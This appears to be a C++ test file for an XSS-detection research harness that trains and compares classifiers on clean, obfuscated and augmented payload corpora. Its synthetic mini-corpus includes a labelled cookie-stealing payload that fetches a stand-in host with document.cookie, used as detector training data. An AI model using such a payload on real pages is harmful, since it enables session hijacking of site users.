#include <doctest.h>

#include <filesystem>
#include <fstream>

#include <nlohmann/json.hpp>

#include "xsslab/harness.hpp"

using namespace xsslab;
using json = nlohmann::json;

namespace {

// Small but class-balanced corpus file so experiments run in milliseconds.
std::string write_mini_corpus() {
  const auto path = (std::filesystem::temp_directory_path() / "xsslab_mini.jsonl").string();
  std::ofstream out(path, std::ios::binary);
  auto emit = [&](const std::string& text, const char* label) {
    json record;
    record["text"] = text;
    record["label"] = label;
    out << record.dump() << "\n";
  };
  for (int n = 1; n <= 30; ++n) {
    emit("alert(" + std::to_string(n) + ")", "xss");
    emit("fetch('//sink-" + std::to_string(n) + ".example/?c='+document.cookie)", "xss");
  }
  for (int n = 1; n <= 50; ++n) {
    emit("let counter" + std::to_string(n) + " = " + std::to_string(n) + ";", "benign");
    emit("console.log('module " + std::to_string(n) + " ready');", "benign");
  }
  return path;
}

ExperimentConfig mini_config(ExperimentId id) {
  ExperimentConfig config = default_experiment_config();
  config.id = id;
  config.sources[0].path = write_mini_corpus();
  config.models.forest.n_trees = 10;
  config.models.logreg.epochs = 10;
  config.models.svm.epochs = 10;
  return config;
}

json strip_timestamp(const std::string& report_json) {
  json doc = json::parse(report_json);
  doc.erase("timestamp");
  return doc;
}

}  // namespace

TEST_CASE("experiment ids parse both short and long names") {
  CHECK(parse_experiment_id("exp1") == ExperimentId::exp1_clean_clean);
  CHECK(parse_experiment_id("exp2_clean_obf") == ExperimentId::exp2_clean_obf);
  CHECK(parse_experiment_id("exp3") == ExperimentId::exp3_aug_obf);
  CHECK(!parse_experiment_id("exp4"));
  CHECK(experiment_id_name(ExperimentId::exp3_aug_obf) == "exp3_aug_obf");
}

TEST_CASE("config serialization round-trips through JSON") {
  ExperimentConfig config = default_experiment_config();
  config.synth.temperature = 1.25;
  config.models.forest.n_trees = 33;
  config.obf_weights = {0.1, 0.2, 0.3, 0.4};
  const auto echo = experiment_config_to_json(config);
  const ExperimentConfig back = experiment_config_from_json(json::parse(echo.dump()));
  CHECK(experiment_config_to_json(back).dump() == echo.dump());
}

TEST_CASE("config overrides apply field by field") {
  const json doc = json::parse(R"json({
    "split": {"train_fraction": 0.75},
    "synth": {"mutation_rates": {"junk_char_insert": 0.05}},
    "models": {"forest": {"n_trees": 7, "feature_subsample": "all"}},
    "master_seed": 9
  })json");
  const ExperimentConfig config = experiment_config_from_json(doc);
  CHECK(config.split.train_fraction == 0.75);
  CHECK(config.split.seed == 42);  // untouched default
  CHECK(config.synth.junk_char_insert_rate == 0.05);
  CHECK(config.synth.whitespace_jitter_rate == doctest::Approx(0.3));
  CHECK(config.models.forest.n_trees == 7);
  CHECK_FALSE(config.models.forest.feature_subsample_sqrt);
  CHECK(config.master_seed == 9);
}

TEST_CASE("apply_master_seed drives every seed field") {
  ExperimentConfig config = default_experiment_config();
  apply_master_seed(config, 1234);
  CHECK(config.master_seed == 1234);
  CHECK(config.split.seed == 1234);
  CHECK(config.models.seed == 1234);
}

TEST_CASE("run_experiment produces a structured report for each experiment") {
  for (ExperimentId id : {ExperimentId::exp1_clean_clean, ExperimentId::exp2_clean_obf,
                          ExperimentId::exp3_aug_obf}) {
    const Report report = run_experiment(mini_config(id));
    CHECK(report.experiment == experiment_id_name(id));
    CHECK(report.models.size() == 4);
    CHECK(report.models.count("decision_tree") == 1);
    CHECK(report.models.count("random_forest") == 1);
    CHECK(report.models.count("logistic_regression") == 1);
    CHECK(report.models.count("linear_svm") == 1);
    CHECK(report.corpus_stats.at("total").get<size_t>() == 160);
    CHECK(report.corpus_stats.at("train").get<size_t>() == 128);
    CHECK(report.corpus_stats.at("test").get<size_t>() == 32);
    if (id == ExperimentId::exp1_clean_clean) {
      CHECK(report.obfuscation.is_null());
      CHECK(report.synth_stats.is_null());
    } else {
      CHECK(report.obfuscation.at("replaced").get<size_t>() > 0);
    }
    if (id == ExperimentId::exp3_aug_obf) {
      CHECK(report.synth_stats.at("added").get<size_t>() > 0);
      CHECK_FALSE(report.entropy.is_null());
    }
  }
}

TEST_CASE("reports are byte-identical across runs except the timestamp") {
  const ExperimentConfig config = mini_config(ExperimentId::exp3_aug_obf);
  const std::string a = report_to_json(run_experiment(config));
  const std::string b = report_to_json(run_experiment(config));
  CHECK(strip_timestamp(a) == strip_timestamp(b));
}

TEST_CASE("the config echo reproduces the run") {
  const ExperimentConfig config = mini_config(ExperimentId::exp2_clean_obf);
  const Report first = run_experiment(config);
  const ExperimentConfig replay =
      experiment_config_from_json(json::parse(first.config_echo.dump()));
  const Report second = run_experiment(replay);
  CHECK(strip_timestamp(report_to_json(first)) == strip_timestamp(report_to_json(second)));
}

TEST_CASE("reports round-trip through JSON") {
  const Report report = run_experiment(mini_config(ExperimentId::exp1_clean_clean));
  const Report back = report_from_json(report_to_json(report));
  CHECK(back.experiment == report.experiment);
  CHECK(back.models.size() == report.models.size());
  CHECK(back.models.at("linear_svm").accuracy ==
        doctest::Approx(report.models.at("linear_svm").accuracy));
}

TEST_CASE("compare_reports emits zero deltas for identical reports") {
  const Report report = run_experiment(mini_config(ExperimentId::exp1_clean_clean));
  const auto delta = compare_reports(report, report);
  for (const auto& [model, metrics] : delta.at("models").items()) {
    for (const char* metric : {"accuracy", "precision", "recall", "f1"}) {
      CHECK(metrics.at(metric).at("delta").get<double>() == 0.0);
      CHECK(metrics.at(metric).at("direction").get<std::string>() == "flat");
    }
  }
}

TEST_CASE("compare_reports tags directions") {
  Report before = run_experiment(mini_config(ExperimentId::exp1_clean_clean));
  Report after = before;
  after.models.at("linear_svm").recall = before.models.at("linear_svm").recall - 0.5;
  const auto delta = compare_reports(before, after);
  CHECK(delta.at("models").at("linear_svm").at("recall").at("direction").get<std::string>() ==
        "down");
}

TEST_CASE("compare_reports rejects mismatched model sets") {
  Report before = run_experiment(mini_config(ExperimentId::exp1_clean_clean));
  Report after = before;
  after.models.erase("linear_svm");
  CHECK_THROWS_AS(compare_reports(before, after), std::invalid_argument);
  after.models.emplace("extra_model", Metrics{});
  CHECK_THROWS_AS(compare_reports(before, after), std::invalid_argument);
}

TEST_CASE("missing corpus files surface as errors with context") {
  ExperimentConfig config = default_experiment_config();
  config.sources[0].path = "/nonexistent/corpus.jsonl";
  CHECK_THROWS_AS(run_experiment(config), std::runtime_error);
}
